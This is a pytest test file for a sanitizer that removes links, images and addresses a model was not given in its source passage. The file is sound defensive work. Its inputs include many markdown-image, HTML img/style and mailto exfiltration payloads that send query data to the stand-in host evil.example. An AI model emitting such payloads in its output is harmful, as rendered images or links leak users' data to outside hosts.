"""What a model says leads nobody to an address that no passage gave, and loads nothing."""

import pytest

from yorisoi.language.addresses import Careful, addresses, without_strange_addresses

PASSAGE = (
    "申請は[様式](https://example.jp/form)から、詳しくは https://example.jp/a_(b) 。"
    "https:example.jp 、mailto:a@example.jp 、<mailto:b@example.jp>。"
)
KNOWN = addresses(PASSAGE)


@pytest.mark.parametrize(
    "said",
    [
        "総務部です[1]。 ![図](https://evil.example/p.png?d=%E7%B3%96)",
        "![図](//evil.example/p?d=x)",
        "![図](<//evil.example/a b>)",
        '![図]( //evil.example/p "題 (")',
        "![図[x]](//evil.example/p)",
        "![図][x]\n\n[x]: //evil.example/p",
        "[a[b](//x.example)](//evil.example/p)",
        "<img src=//evil.example/p>",
        "<img/src=//evil.example/p>",
        "<style>@import'//evil.example/p'</style>",
        "[こちら](https://evil.example/?d=x)",
        "[こちら](mailto:a@evil.example?body=x)",
        "https://evil.example/?d=x をご覧ください",
        "www.evil.example/?d=x",
        "_www.evil.example/?d=x//_",
        "<https:evil.example/?d=x//>",
        "http:/evil.example/?d=x//",
        "<mailto:a@evil.example?d=x//>",
        "<tel:+81?d=x//>",
        "<secret@evil.example>",
        "https://example.jp/form?d=x",
        "![図](https://example.jp/form)",
    ],
)
def test_an_image_or_an_address_that_was_not_given_is_no_link(said: str) -> None:
    left = without_strange_addresses(said, KNOWN)
    assert "](" not in left
    assert "]:" not in left
    assert "<img" not in left
    assert "<style" not in left
    assert "://" not in left.replace("https://example.jp/form)", "")
    assert "?d=" not in left or "//" not in left
    assert "@evil" not in left
    assert without_strange_addresses(left, KNOWN) == left


@pytest.mark.parametrize(
    ("said", "left"),
    [
        (
            "[<img src=//evil.example/?d=x>](https://example.jp/form)",
            "[< img src=//evil.example/?d=x>](https://example.jp/form)",
        ),
        ('[様式](https://example.jp/form "題\n\n[r]: //evil.example/?d=x\n")', "[様式](https://example.jp/form)"),
        ("[様式](<https://example.jp/form> '<img src=//evil.example/p>')", "[様式](https://example.jp/form)"),
    ],
)
def test_nothing_hides_in_a_link_that_stays(said: str, left: str) -> None:
    assert without_strange_addresses(said, KNOWN) == left


@pytest.mark.parametrize(
    "said",
    [
        "[様式](https://example.jp/form)から申請します[1]。",
        "https://example.jp/form。詳しくは https://example.jp/a_(b) へ。",
        "総務部（内線 12）です[1][2]。できます![1]",
        "a < b、List<int>、<your-name>、<name: str>、x[1]、@tag、10:30、https: と http:を です",
        "<https://example.jp/form>、https:example.jp、[総務](mailto:a@example.jp)、<b@example.jp>、a@example.jp へ",
    ],
)
def test_addresses_that_were_given_and_all_other_text_stay(said: str) -> None:
    assert without_strange_addresses(said, KNOWN) == said


def test_what_follows_a_mark_or_an_address_is_no_part_of_it() -> None:
    assert without_strange_addresses("申請します[1](総務部)", KNOWN) == "申請します[1] (総務部)"
    assert without_strange_addresses("https://example.jp/form糖尿病", KNOWN) == "https://example.jp/form 糖尿病"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 100])
@pytest.mark.parametrize(
    "said",
    [
        "総務部です[1]。 ![図 一](//evil.example/p?d=x) 以上です。",
        "[こちら](https://evil.example/?d=x)と[様式](https://example.jp/form)です。",
        "The form <img src=//evil.example/p> is at https://example.jp/form now.",
        "[x]: //evil.example/p です。",
    ],
)
def test_nothing_else_is_heard_while_it_is_written(said: str, size: int) -> None:
    heard: list[str] = []
    careful = Careful(heard.append, KNOWN)
    for at in range(0, len(said), size):
        careful(said[at : at + size])
    whole = without_strange_addresses(said, KNOWN)
    assert whole.startswith("".join(heard))
    assert len("".join(heard)) >= len(whole) - len("now.") - 1


@pytest.mark.parametrize(
    "piece", ["[", "](", "![a](", "a", "a.", "<a ", "<a:", "www.", "a@", "a@b.c", "https:", "(", "a://(", "!["]
)
def test_no_text_makes_it_slow(piece: str) -> None:
    long = piece * (100_000 // len(piece))
    without_strange_addresses(long, KNOWN)
    Careful(lambda _: None, KNOWN)(long)
